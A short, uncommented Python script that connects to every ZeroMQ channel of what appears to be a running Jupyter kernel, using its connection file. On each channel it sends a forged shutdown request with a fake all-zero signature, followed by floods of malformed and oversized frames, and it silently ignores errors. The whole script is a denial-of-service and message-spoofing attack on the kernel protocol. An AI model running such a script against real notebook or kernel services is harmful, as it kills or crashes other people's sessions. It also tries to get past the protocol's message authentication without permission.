import json
import zmq

info = json.load(open("/slot/s/c.json"))
context = zmq.Context()
forged = [b"<IDS|MSG>", b"0" * 64, b'{"msg_type": "shutdown_request"}', b"{}", b"{}", b'{"restart": false}']
for channel in ("shell", "control", "stdin", "hb", "iopub"):
    address = f"ipc:///slot/s/k-{info[channel + '_port']}"
    for kind in (zmq.DEALER, zmq.PUB, zmq.REQ, zmq.SUB, zmq.PUSH):
        socket = context.socket(kind)
        socket.linger = 0
        socket.connect(address)
        try:
            for message in (forged, [b""], [b"\xff" * 1000] * 50, [b"x" * (1 << 20)]):
                socket.send_multipart(message, zmq.NOBLOCK)
        except zmq.ZMQError:
            pass
print("sent")
